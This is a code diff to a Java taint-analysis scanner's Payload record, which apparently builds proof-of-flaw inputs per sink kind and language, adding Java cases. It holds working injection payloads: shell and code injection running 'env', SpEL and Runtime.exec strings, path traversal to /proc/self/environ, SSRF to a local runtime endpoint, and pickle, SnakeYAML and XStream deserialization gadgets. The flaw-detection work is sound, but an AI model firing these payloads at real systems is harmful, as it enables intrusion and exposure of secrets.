@@ -1,5 +1,6 @@
 package dev.merlon.analysis.taint;
 
+import dev.merlon.code.ir.Language;
 import dev.merlon.knowledge.SinkKind;
 
 /// What to send to show a flaw: text that does something else than the program meant, and that the
@@ -8,7 +9,7 @@ import dev.merlon.knowledge.SinkKind;
 /// @param field the field that carries it
 /// @param call the library call that is the sink
 /// @param shape the text around the data, with `\u0000` where it stands
-record Payload(EventPath field, SinkKind sink, String call, String shape, boolean isPython) {
+record Payload(EventPath field, SinkKind sink, String call, String shape, Language language) {
 
   String text() {
     String text = text(before());
@@ -34,15 +35,26 @@ record Payload(EventPath field, SinkKind sink, String call, String shape, boolea
       case SQL -> sql(before);
       case COMMAND -> before == '\'' ? "x'; env; '" : before == '"' ? "x\"; env; \"" : "x; env";
       case CODE ->
-          isPython
-              ? "__import__('os').popen('env').read()"
-              : "process.mainModule.require('child_process').execSync('env').toString()";
+          switch (language) {
+            case PYTHON -> "__import__('os').popen('env').read()";
+            case JAVASCRIPT, TYPESCRIPT ->
+                "process.mainModule.require('child_process').execSync('env').toString()";
+            case JAVA ->
+                call.contains("spel") || call.contains("expression")
+                    ? "T(java.lang.Runtime).getRuntime().exec('env')"
+                    : "java.lang.Runtime.getRuntime().exec('env')";
+          };
       case PATH -> "../../../../proc/self/environ";
       // Behind a host, `@` makes what stood before a user name.
       case REQUEST ->
           (shape.indexOf('\u0000') > 0 ? "@" : "http://")
               + "127.0.0.1:9001/2018-06-01/runtime/invocation/next";
-      case DESERIALIZATION -> isPython ? pythonObject() : javaScriptObject();
+      case DESERIALIZATION ->
+          switch (language) {
+            case PYTHON -> pythonObject();
+            case JAVASCRIPT, TYPESCRIPT -> javaScriptObject();
+            case JAVA -> javaObject();
+          };
     };
   }
 
@@ -69,6 +81,18 @@ record Payload(EventPath field, SinkKind sink, String call, String shape, boolea
     return "cos\nsystem\n(S'env'\ntR.";
   }
 
+  // SnakeYAML makes objects of any class; XStream those that it finds in the text. The head of a
+  // serialized object (Java Object Serialization Specification, 6.4.2) stands for one.
+  private String javaObject() {
+    if (call.contains("yaml")) {
+      return "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
+          + " [[!!java.net.URL [\"http://127.0.0.1/\"]]]]";
+    }
+    return call.contains("xstream")
+        ? "<java.lang.ProcessBuilder><command><string>env</string></command></java.lang.ProcessBuilder>"
+        : "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashSet";
+  }
+
   // The name of the field that holds the function is of no account.
   private String javaScriptObject() {
     return call.startsWith("js-yaml.")
@@ -87,6 +111,7 @@ record Payload(EventPath field, SinkKind sink, String call, String shape, boolea
 
   /// The text for a field of an object that is itself restored.
   String ofField() {
-    return sink == SinkKind.DESERIALIZATION && !isPython ? javaScriptFunction() : text();
+    boolean isScript = language == Language.JAVASCRIPT || language == Language.TYPESCRIPT;
+    return sink == SinkKind.DESERIALIZATION && isScript ? javaScriptFunction() : text();
   }
 }
